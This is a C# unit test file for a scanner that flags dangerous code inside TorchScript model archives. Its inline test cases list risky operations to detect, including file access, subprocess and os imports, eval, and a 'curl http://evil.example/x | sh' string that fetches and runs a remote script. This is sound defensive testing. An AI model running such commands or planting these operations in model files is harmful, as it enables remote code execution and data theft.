using System.IO.Compression;
using SupplyChainAnalyzers.Core.Findings;
using SupplyChainAnalyzers.Scanner.Formats.TorchScript;
using SupplyChainAnalyzers.Scanner.Input;
using SupplyChainAnalyzers.Scanner.Scanning;
using SupplyChainAnalyzers.Scanner.Tests.Formats.Graphs;
using SupplyChainAnalyzers.Scanner.Tests.Scanning;

namespace SupplyChainAnalyzers.Scanner.Tests.Formats.TorchScript;

public sealed class TorchScriptCodeTests
{
    public static TheoryData<string> Real => [.. Directory.GetFiles(Folder, "*.pt").Select(static path => Path.GetFileName(path))];

    private static string Folder => Path.Combine(AppContext.BaseDirectory, "Samples", "torchscript");

    [Theory]
    [MemberData(nameof(Real))]
    public void Code_of_a_real_archive_is_clean(string name)
    {
        foreach (var code in CodeOf(name))
            Assert.Empty(Findings(code));
    }

    [Theory]
    [InlineData("y = torch.from_file(\"data.bin\", False, 10, dtype=0)", Severity.High)]
    [InlineData("y = torch . from_file(\"data.bin\")", Severity.High)]
    [InlineData("torch.save(x, \"x\")", Severity.High)]
    [InlineData("y = ops.aten.from_file(\"data.bin\")", Severity.High)]
    [InlineData("y = torch.ops.image.read_file(\"data.bin\")", Severity.High)]
    [InlineData("ops.image.write_file(\"x\", y)", Severity.High)]
    [InlineData("f = ops.image.write_file", Severity.High)]
    [InlineData("ops.c10d.send(x)", Severity.High)]
    [InlineData("y = ^Evil()(x)", Severity.High)]
    [InlineData("y = ops.prim.PythonOp(x)", Severity.High)]
    [InlineData("import os", Severity.High)]
    [InlineData("from subprocess import run", Severity.High)]
    [InlineData("eval(\"1\")", Severity.High)]
    [InlineData("y = ops.mine.op(x)", Severity.Medium)]
    [InlineData("y = __torch__.torch.classes.mine.Thing(x)", Severity.Medium)]
    [InlineData("y = ops.torchvision.nms(x)", Severity.Info)]
    [InlineData("y = \"curl http://evil.example/x | sh\"", Severity.High)]
    public void Line_is_judged_by_what_it_names(string line, Severity severity)
    {
        var findings = Findings($"def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n  {line}\n  return torch.add(x, y)\n");
        Assert.Equal(severity, Assert.Single(findings).Severity);
    }

    [Theory]
    [InlineData("# torch.from_file(\"x\")")]
    [InlineData("msg = \"torch.from_file is not called here\"")]
    [InlineData("y = self.mine.from_file")]
    [InlineData("import __torch__.torch.nn.modules.linear")]
    [InlineData("op_version_set = 1")]
    public void Line_that_only_looks_alike_is_clean(string line) => Assert.Empty(Findings(line));

    [Fact]
    public void Archive_with_code_that_reads_a_file_is_malicious()
    {
        var archive = Samples.Zip(("m/data.pkl", Samples.Pickle), ("m/constants.pkl", Samples.Pickle), ("m/code/__torch__.py", Samples.Text("y = torch.from_file(\"/x\")")), ("m/version", Samples.Text("3\n")));
        var scanned = Scanned.Bytes(archive, "m.pt");
        Assert.Contains(scanned.Findings, static finding => finding.Rule == Rules.GraphRunsCode && finding.Member == "m/code/__torch__.py");
        Assert.Equal(Verdict.Malicious, scanned.Verdict);
    }

    [Fact]
    public void Mutated_code_never_stops_the_scanner() =>
        Mutations.Run(
            [.. Directory.GetFiles(Folder, "*.pt").Select(static path => Path.GetFileName(path)).SelectMany(CodeOf).Select(Samples.Text)],
            2000,
            static bytes => TorchScriptCode.Scan(new MemorySource(bytes), ScanContext.ForFile("m.py", new FindingSink(), Neighbours.None)));

    private static IEnumerable<string> CodeOf(string name)
    {
        using var archive = ZipFile.OpenRead(Path.Combine(Folder, name));
        return [.. archive.Entries.Where(static entry => entry.Name.EndsWith(".py", StringComparison.Ordinal)).Select(static entry => new StreamReader(entry.Open()).ReadToEnd())];
    }

    private static IReadOnlyList<Core.Scanning.Protocol.ReportedFinding> Findings(string code)
    {
        var sink = new FindingSink();
        TorchScriptCode.Scan(new MemorySource(Samples.Text(code)), ScanContext.ForFile("m.py", sink, Neighbours.None));
        return sink.Findings;
    }
}
